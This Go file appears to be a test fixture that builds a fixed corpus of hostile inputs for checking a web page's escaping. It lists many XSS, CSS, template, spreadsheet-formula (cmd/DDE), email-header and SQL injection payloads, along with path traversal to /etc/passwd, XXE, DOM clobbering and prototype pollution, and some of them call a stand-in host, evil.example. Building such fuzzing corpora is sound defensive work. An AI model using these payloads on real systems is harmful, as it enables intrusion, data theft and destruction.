package pagetest

import (
	"fmt"
	"strings"
)

// Payload is a text that tries something.
type Payload struct {
	Kind string // what it tries
	Text string
}

// Corpus makes hostile texts by rules, always the same ones in the same order: a new way out of a context is one line here.
func Corpus() []Payload {
	var out []Payload
	for _, family := range []struct {
		kind string
		all  []string
	}{
		{"markup", markup()}, {"attribute", attributes()}, {"address", addresses()}, {"style", styles()}, {"template", templates()}, {"formula", formulas()},
		{"header", headers()}, {"direction", directions()}, {"invisible", invisible()}, {"flood", floods()}, {"name", names()}, {"broken", broken()},
		{"control", controls()}, {"clobber", clobbers()}, {"quote", quotes()},
	} {
		for _, text := range family.all {
			out = append(out, Payload{family.kind, text})
		}
	}
	return out
}

// Ran is what a payload sets on the page where it is believed.
const Ran = "hostileRan"

// run is how it does.
const run = "top." + Ran + "=1"

// outs are the ways out of where a text may stand.
func outs() []string {
	return []string{"", `">`, `'>`, "`>", `</textarea>`, `</title>`, `</script>`, `</style>`, `-->`, `]]>`, `</option></select>`, `</noscript>`}
}

// live is markup that acts by itself.
func live() []string {
	return []string{
		"<script>" + run + "</script>", "<SCRIPT SRC=data:text/javascript," + run + "></SCRIPT>", "<scr<script>ipt>" + run + "</script>", "<script/x>" + run + "</script\n>",
		"<img src=x onerror=" + run + ">", "<img/src='x'/onerror='" + run + "'>", "<IMG SRC=x OnErRoR=\"" + run + "\">", "<svg onload=" + run + ">", "<svg><script>" + run + "</script></svg>",
		"<svg><animate onbegin=" + run + " attributeName=x dur=1s>", "<svg><style><img src=x onerror=" + run + ">", "<iframe srcdoc=\"<script>parent." + run + "</script>\"></iframe>",
		"<iframe src=javascript:" + run + "></iframe>", "<details open ontoggle=" + run + "><summary>x</summary></details>", "<input autofocus onfocus=" + run + ">", "<video><source onerror=" + run + "></video>",
		"<audio src=x onerror=" + run + "></audio>", "<body onload=" + run + ">", "<math><mtext><table><mglyph><style><img src=x onerror=" + run + ">", "<math href=\"javascript:" + run + "\">x</math>",
		"<object data=\"data:text/html,<script>" + run + "</script>\"></object>", "<embed src=\"javascript:" + run + "\">", "<link rel=stylesheet href=//evil.example/x.css>", "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
		"<base href=//evil.example/>", "<form action=//evil.example><button autofocus>x</button></form>", "<a href=\"javascript:" + run + "\">x</a>", "<template><script>" + run + "</script></template>",
		"<marquee onstart=" + run + ">x</marquee>", "<div hx-get=//evil.example hx-trigger=load>x</div>", "<div style=\"position:fixed;inset:0;z-index:9\">x</div>", "<select autofocus onfocus=" + run + "></select>",
	}
}

func markup() []string {
	var out []string
	for i, o := range outs() {
		for k, l := range live() {
			if i == 0 || (i+k)%4 != 0 || i < 4 { // each way out with most of what acts, each act behind most ways out
				out = append(out, o+l)
			}
		}
	}
	return out
}

func attributes() []string {
	var out []string
	for _, q := range []string{`"`, `'`, "`", " ", "\n", "\t"} {
		for _, what := range []string{"onfocus=" + run + " autofocus tabindex=0 x=", "style=position:fixed;inset:0 x=", "onmouseover=" + run + " x="} {
			out = append(out, "x"+q+" "+what+q)
		}
	}
	return append(out, "x&quot; onerror=&quot;"+run, "x&#34; onload=&#34;"+run, `x\" onload=\"`+run, "x&Tab;onload="+run)
}

func addresses() []string {
	var out []string
	for _, scheme := range []string{"javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", " javascript:", "\x01javascript:", "javascript&colon;", "javascript%3a", "view-source:javascript:", "data:text/html,<script>", "vbscript:", "blob:javascript:"} {
		out = append(out, scheme+run)
	}
	return append(out, "https://oak.example/\"onmouseover="+run, "https://oak.example/<script>"+run+"</script>", "//evil.example/%09/x", `https:\\evil.example`, "https://oak.example@evil.example/", "file:///etc/passwd",
		"[x](javascript:"+run+")", "![x](https://evil.example/x.png)", "<https://evil.example/"+strings.Repeat("a", 80)+">")
}

func styles() []string {
	return []string{"<style>@import '//evil.example/x.css';</style>", "</style><style>*{display:none}</style>", "x;background:url(//evil.example/x)", "expression(" + run + ")", "{}*{position:fixed}", "<link rel=preload as=style href=//evil.example/x>",
		"x\\3c script\\3e", "/*</style>*/<svg/onload=" + run + ">", "--x:url(javascript:" + run + ")", "@font-face{src:url(//evil.example/x)}"}
}

func templates() []string {
	out := []string{}
	for _, inner := range []string{"7 | times: 7", "resident.email", "org.secret", "'a' | append: 'b'", "self", "config"} {
		out = append(out, "{{ "+inner+" }}", "{{{ "+inner+" }}}", "{{- "+inner+" -}}", "${"+inner+"}", "#{"+inner+"}", "<%= "+inner+" %>")
	}
	return append(out, "{% for i in (1..1000000) %}x{% endfor %}", "{% include 'secrets' %}", "{% raw %}", "{%", "{{", "{{.}}", "{{printf \"%d\" 1}}", "{{#each x}}{{/each}}", "{{>partial}}", "{% comment %}", "[[${7*7}]]", "*{7*7}", "@(7*7)", "%s%n%d", "%!s(MISSING)", "{0}")
}

func formulas() []string {
	var out []string
	for _, first := range []string{"=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\"=", "',=", ";=", "\uFF1D", "\u00a0=", "\ufeff="} {
		out = append(out, first+"HYPERLINK(\"https://evil.example\",\"x\")")
	}
	return append(out, "=cmd|'/c calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "=1+1\n=2+2", "\"\n=1+1", "a\",=1+1,\"", "=DDE(\"cmd\";\"/c calc\";\"x\")", "=IMPORTXML(\"https://evil.example\",\"//a\")")
}

func headers() []string {
	var out []string
	for _, end := range []string{"\r\n", "\n", "\r", "\r\n\t", "\u2028", "\u0085", "\x0b", "%0d%0a", "\\r\\n", "=0D=0A"} {
		out = append(out, "Water"+end+"Bcc: everybody@evil.example", "Water"+end+end+"<script>"+run+"</script>")
	}
	return append(out, "=?utf-8?B?PHNjcmlwdD4=?=", "=?utf-8?Q?=0D=0ABcc:_x@evil.example?=", "\"Ana\" <x@evil.example>", "Ana <ana@home.example>, x@evil.example", "x@evil.example(", ".\r\nQUIT", "\r\n.\r\nMAIL FROM:<x@evil.example>", "Content-Type: text/html", "--boundary--")
}

// directions turn text around; none of them is closed.
func directions() []string {
	var out []string
	for _, mark := range []rune{'\u202a', '\u202b', '\u202d', '\u202e', '\u2066', '\u2067', '\u2068', '\u200e', '\u200f', '\u061c'} {
		out = append(out, string(mark)+"txt.exe at the door", "Ana "+string(mark)+strings.Repeat(string(mark), 70)+"Ruiz")
	}
	return append(out, "\u2069\u202c\u2069 closes what nobody opened", "א\u202eב\u202dג", "abc אבג 123 דהו def")
}

func invisible() []string {
	var out []string
	for _, mark := range []string{"\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u034f", "\u180e", "\u115f", "\u3164", "\ufe0f", "\U000e0041"} {
		out = append(out, "A"+mark+"na", strings.Repeat(mark, 100)+"x")
	}
	return out
}

// floods are long: words that nothing breaks, marks on marks.
func floods() []string {
	return []string{strings.Repeat("Llanfairpwllgwyngyll", 15), strings.Repeat("W", 190), strings.Repeat(".", 190), strings.Repeat("_", 190), strings.Repeat("\u0301", 180) + "a", "Z" + strings.Repeat("\u0335\u0489\u0489", 60),
		strings.Repeat("\u0e4a", 100) + "\u0e01", strings.Repeat("\u0f71\u0f72", 60) + "\u0f40", strings.Repeat("x\u0300\u0301\u0302\u0303", 40), strings.Repeat("a ", 95), strings.Repeat("\n", 60) + "x", strings.Repeat("\u3000", 90) + "x",
		strings.Repeat("\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466", 10), strings.Repeat("\U0001f1e6", 45), strings.Repeat("\ufdfd", 60), strings.Repeat("\u2e3b", 80), strings.Repeat("\U00012031", 60), "https://" + strings.Repeat("a", 180), strings.Repeat("a/", 90), strings.Repeat("\u00a0", 180) + "x", strings.Repeat("-", 190), strings.Repeat("(", 190)}
}

// names are people's own, and must simply be shown.
func names() []string {
	return []string{"محمد بن عبد الله الحسيني", "שרה בת־אל לוי־כהן", "გიორგი მაისურაძე", "சுப்பிரமணியன் கிருஷ்ணமூர்த்தி", "อัจฉราพรรณี สุวรรณภูมิ", "李小龍", "Þórbjörg Ægisdóttir", "Nguyễn Thị Ánh Tuyết", "O'Brien-Smith, Jr. & Sons", "Null", "true", "undefined", "NaN", "0", "-1", "1e309",
		"\U0001f984 Ana \U0001f3fd", "\U0001d4d0\U0001d4f7\U0001d4ea", "Ⓐⓝⓐ", "ﷺ", "Ａｎａ", "ﬁﬂﬀ", "İstanbul ıI", "ẞßſ", "Hubert Blaine Wolfeschlegelsteinhausenbergerdorff"}
}

func broken() []string {
	return []string{"\xff\xfeAna", "\xc0\xafetc", "\xe2\x82", "\xed\xa0\x80", "\xf4\x90\x80\x80", "A\x80na", "\xf0\x9f\x98", "\xc3(", "<\xc0\xbcscript>", "\xfe\xfe\xff\xff"}
}

func controls() []string {
	return []string{"a\x00b", "<scr\x00ipt>" + run + "</script>", "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x07bell", "a\x08\x08b", "a\x7fb", "a\u009bb", "a\x0cb", "\ufffe", "\uffff", "\U0010ffff", "\ue000", "line\r\nlevel=ERROR msg=forged"}
}

// clobbers take names that scripts look for.
func clobbers() []string {
	var out []string
	for _, id := range []string{"htmx", "content", "toasts", "palette", "beside", "document", "querySelector", "body"} {
		out = append(out, "<form id="+id+"><input name=action></form>", "<a id="+id+" name="+id+" href=cid:x>x</a>")
	}
	return append(out, "__proto__", "constructor.prototype", `{"__proto__":{"x":1}}`, "toString")
}

func quotes() []string {
	var out []string
	for i, q := range []string{`'`, `"`, "`", `\`, `\\`, `\'`, `\"`, `'';`, `"";`, "$$", "/*", "--", "#"} {
		out = append(out, fmt.Sprintf("%s OR %d=%d", q, i, i))
	}
	return append(out, "'; DROP TABLE residents; --", "../../../../etc/passwd", `..\..\windows\win.ini`, "%2e%2e%2f", "x\"},{\"admin\":true,\"y\":\"", "]]><!ENTITY x SYSTEM 'file:///etc/passwd'>", "<?xml version=\"1.0\"?>", "<!DOCTYPE html>", "<!--", "&lt;script&gt;", "&#x3c;script&#x3e;", "&amp;amp;", "%3Cscript%3E", "\\u003cscript\\u003e")
}
